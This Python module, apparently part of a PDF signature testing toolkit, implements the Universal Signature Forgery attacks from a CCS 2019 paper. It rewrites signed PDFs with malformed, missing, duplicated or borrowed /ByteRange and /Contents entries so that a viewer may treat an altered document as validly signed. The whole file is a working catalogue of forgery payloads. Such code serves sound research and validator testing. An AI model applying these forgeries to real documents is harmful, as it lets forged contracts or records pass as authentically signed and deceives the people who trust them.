"""USF: the signature stays, its entries are bent until nothing is checked (CCS 2019, §4.1)."""

from collections.abc import Callable

from attacks.victim import Victim
from attacks.wrapping import parts

RANGES = {
    "null": b"null",
    "empty": b"[]",
    "one-number": b"[0]",
    "zeros": b"[0 0 0 0]",
    "negative-start": b"[-1 %(start)d %(stop)d %(rest)d]",
    "negative-length": b"[0 -%(start)d %(stop)d %(rest)d]",
    "not-from-zero": b"[1 %(less)d %(stop)d %(rest)d]",
    "overlapping": b"[0 %(stop)d %(start)d %(rest)d]",
    "unordered": b"[%(stop)d %(rest)d 0 %(start)d]",
    "gap-wider": b"[0 %(less)d %(stop)d %(rest)d]",
    "gap-narrower": b"[0 %(more)d %(stop)d %(rest)d]",
    "gap-elsewhere": b"[0 100 200 %(start)d]",
    "first-part-only": b"[0 %(start)d %(stop)d 0]",
    "too-long": b"[0 %(start)d %(stop)d 99999999]",
    "huge": b"[0 99999999999999999999 %(stop)d 1]",
    "reals": b"[0.0 %(start)d.0 %(stop)d.0 %(rest)d.0]",
    "names": b"[/A /B /C /D]",
    "hole-unclosed": b"[0 %(start)d %(stop)d %(short)d]",
}
CONTENTS = {
    "null": b"null",
    "zero": b"<00>",
    "empty": b"<>",
    "zeros": b"<" + b"00" * 64 + b">",
    "text": b"(signature)",
    "name": b"/Signature",
    "no-hex": b"<zz>",
}


def _with_range(value: bytes) -> Callable[[Victim], bytes]:
    def forge(victim: Victim) -> bytes:
        pdf = victim.led
        start, stop, rest, at = parts(pdf)
        facts = {
            b"start": start,
            b"stop": stop,
            b"rest": rest,
            b"less": start - 1,
            b"more": start + 1,
            b"short": rest - 10,
        }
        room = at + 33 - (at - 13)
        text = (b"/ByteRange" + value % facts).ljust(room)
        if len(text) > room:
            text = text.rstrip()
        return pdf[: at - 13] + text + pdf[at + 33 :]

    return forge


def _with_contents(value: bytes) -> Callable[[Victim], bytes]:
    def forge(victim: Victim) -> bytes:
        pdf = victim.led
        start, stop, _, _ = parts(pdf)
        return pdf[:start] + value.ljust(stop - start) + pdf[stop:]

    return forge


def range_missing(victim: Victim) -> bytes:
    """There is no byte range at all."""
    return victim.led.replace(b"/ByteRange[", b"/ByteRanga[", 1)


def contents_missing(victim: Victim) -> bytes:
    """There is no /Contents at all."""
    return victim.led.replace(b"/Contents<", b"/Contentz<", 1)


def range_twice(victim: Victim) -> bytes:
    """There are two byte ranges, of which one says nothing."""
    return victim.led.replace(b"/Filter/Adobe.PPKLite/S", b"/ByteRange[0 0 0 0]  /S", 1)


def contents_twice(victim: Victim) -> bytes:
    """There are two /Contents, of which one is empty."""
    return victim.led.replace(b"/Filter/Adobe.PPKLite/S", b"/Contents<00>        /S", 1)


def type_missing(victim: Victim) -> bytes:
    """The kind of the signature is not one that anybody knows."""
    return victim.led.replace(b"/SubFilter/ETSI.CAdES.detached", b"/SubFilter/ETSI.CAdES.detachee")


def value_null(victim: Victim) -> bytes:
    """The container is that of another document."""
    other = victim.lead(victim.prepare({300: b"null"}))
    start, stop, _, _ = parts(victim.led)
    from_, to, _, _ = parts(other)
    return victim.led[:start] + other[from_:to] + victim.led[stop:]


ATTACKS = {
    **{f"usf-byte-range-{kind}": _with_range(value) for kind, value in RANGES.items()},
    **{f"usf-contents-{kind}": _with_contents(value) for kind, value in CONTENTS.items()},
    "usf-byte-range-missing": range_missing,
    "usf-byte-range-twice": range_twice,
    "usf-contents-missing": contents_missing,
    "usf-contents-twice": contents_twice,
    "usf-kind-unknown": type_missing,
    "usf-container-of-another": value_null,
}
